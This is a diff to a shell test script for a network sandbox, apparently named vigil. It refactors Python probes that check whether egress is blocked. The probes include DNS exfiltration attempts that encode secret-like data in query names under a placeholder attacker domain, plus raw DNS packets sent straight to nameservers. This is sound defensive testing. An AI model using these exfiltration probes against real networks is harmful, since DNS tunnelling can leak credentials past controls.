@@ -19,16 +19,46 @@ take_runtime_arg "$@"
 # shellcheck source=tests/clients/egress/test_hosts.sh
 source "$here/egress/test_hosts.sh"
 
+# Python for the sandbox: lookup NAME prints "resolved" or "refused";
+# reach ADDRESS PORT prints "connected" or "unreachable"; send_query
+# ADDRESS sends a DNS query to ADDRESS:53 and prints "sent" or
+# "unreachable".
+lookup() {
+  cat <<EOF
+import socket
+try:
+    socket.getaddrinfo("$1", 80)
+    print("resolved")
+except socket.gaierror:
+    print("refused")
+EOF
+}
+reach() {
+  cat <<EOF
+import socket
+try:
+    socket.create_connection(("$1", $2), timeout=5)
+    print("connected")
+except OSError:
+    print("unreachable")
+EOF
+}
+send_query() {
+  cat <<EOF
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+try:
+    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x00\x00\x01\x00\x01", ("$1", 53))
+    print("sent")
+except OSError:
+    print("unreachable")
+EOF
+}
+
 # Data out as query names: answered NXDOMAIN by the sandbox's resolver, and
 # never asked of the test hosts' nameserver.
 expect "a query name carrying data never leaves" "refused" \
-  in_box exfil python3 -c '
-import socket
-try:
-    socket.getaddrinfo("c2VjcmV0LXRva2Vu.leak.attacker.test", 80)
-    print("resolved")
-except socket.gaierror:
-    print("refused")'
+  in_box exfil python3 -c "$(lookup c2VjcmV0LXRva2Vu.leak.attacker.test)"
 if grep -q "leak.attacker.test" "$tmp/dnsmasq.log"; then
   not_ok "the leaking name reached no nameserver" "$(context)"
 else
@@ -46,42 +76,16 @@ else
   not_ok "audit --summary lists the refused name" "$summary"
 fi
 expect "a name never allowed does not resolve" "refused" \
-  in_box other python3 -c '
-import socket
-try:
-    socket.getaddrinfo("other.test", 8080)
-    print("resolved")
-except socket.gaierror:
-    print("refused")'
+  in_box other python3 -c "$(lookup other.test)"
 # "*.mirror.test" allows the names below mirror.test, not mirror.test.
 expect "a wildcard does not allow its own domain" "refused" \
-  in_box apex python3 -c '
-import socket
-try:
-    socket.getaddrinfo("mirror.test", 8080)
-    print("resolved")
-except socket.gaierror:
-    print("refused")'
+  in_box apex python3 -c "$(lookup mirror.test)"
 # other.test's address, learned out of band: no allowed name answered it.
 expect "an address learned out of band is unreachable" "unreachable" \
-  in_box oob python3 -c '
-import socket
-try:
-    socket.create_connection(("10.77.0.3", 8080), timeout=5)
-    print("connected")
-except OSError:
-    print("unreachable")'
+  in_box oob python3 -c "$(reach 10.77.0.3 8080)"
 # Past the resolver: the nameserver the container's resolv.conf named.
 expect "DNS straight to a nameserver is unreachable" "unreachable" \
-  in_box direct python3 -c '
-import socket
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-try:
-    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x00\x00\x01\x00\x01", ("10.77.0.2", 53))
-    print("sent")
-except OSError:
-    print("unreachable")'
-
+  in_box direct python3 -c "$(send_query 10.77.0.2)"
 
 # A nameserver of the workload's own on port 53: one there could answer
 # the resolver's upstream queries in the upstream's place.
@@ -121,35 +125,16 @@ expect "a rotated-away address is unreachable after its TTL" "first=ok later=unr
 
 # The same under `vigil do --net allow=`.
 expect "vigil do: a query name carrying data never leaves" "refused" \
-  in_do python3 -c '
-import socket
-try:
-    socket.getaddrinfo("ZG8tc2VjcmV0.leak.attacker.test", 80)
-    print("resolved")
-except socket.gaierror:
-    print("refused")'
+  in_do python3 -c "$(lookup ZG8tc2VjcmV0.leak.attacker.test)"
 if grep -qi "ZG8tc2VjcmV0.leak.attacker.test" "$tmp/dnsmasq.log"; then
   not_ok "vigil do: the leaking name reached no nameserver" "$(context)"
 else
   ok "vigil do: the leaking name reached no nameserver"
 fi
 expect "vigil do: an address learned out of band is unreachable" "unreachable" \
-  in_do python3 -c '
-import socket
-try:
-    socket.create_connection(("10.77.0.3", 8080), timeout=5)
-    print("connected")
-except OSError:
-    print("unreachable")'
+  in_do python3 -c "$(reach 10.77.0.3 8080)"
 # slirp4netns's own DNS forwarder, past the sandbox's resolver.
 expect "vigil do: DNS straight to the forwarder is unreachable" "unreachable" \
-  in_do python3 -c '
-import socket
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-try:
-    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x00\x00\x01\x00\x01", ("10.0.2.3", 53))
-    print("sent")
-except OSError:
-    print("unreachable")'
+  in_do python3 -c "$(send_query 10.0.2.3)"
 
 report
